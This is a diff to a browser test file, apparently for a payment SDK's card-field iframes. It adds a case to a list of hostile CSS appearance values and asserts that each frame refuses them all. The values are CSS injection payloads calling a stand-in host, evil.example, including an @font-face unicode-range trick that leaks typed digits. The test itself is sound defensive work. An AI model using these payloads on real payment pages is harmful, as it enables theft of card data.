@@ -16,6 +16,7 @@ function requestsOf(page: Page): string[] {
 /** Looks that try to fetch something, or to tell what is typed by what they look like. The SDK is not asked; the frame's port is. */
 const HOSTILE = [
   { backgroundColor: 'url(https://evil.example/a)' },
+  { backgroundColor: 'url(//evil.example/l)' },
   { color: 'image-set("https://evil.example/b" 1x)' },
   { fontFamily: 'x; } @font-face { font-family: x; src: url(https://evil.example/c); unicode-range: U+34' },
   { padding: '0 12px; background: url(https://evil.example/d)' },
@@ -35,6 +36,9 @@ test('no look that a page asks for makes a request, or changes a size by what is
   const fields = await fieldsPage({ kinds: KINDS }, {}, page);
   const requests = requestsOf(page);
   for (const appearance of HOSTILE) await fields.update({ appearance });
+  // Each frame refuses each of them by itself; its policy, under which nothing would be fetched, is the second line.
+  const refused = async () => (await fields.heard('error')).map(({ detail }) => detail);
+  await expect.poll(refused).toEqual(KINDS.flatMap(() => HOSTILE.map(() => 'setup_refused')));
   const number = fields.frame('card-number').getByLabel('Card number');
   const before = await frameSizes(number);
   for (const digit of '4242424242424241') {
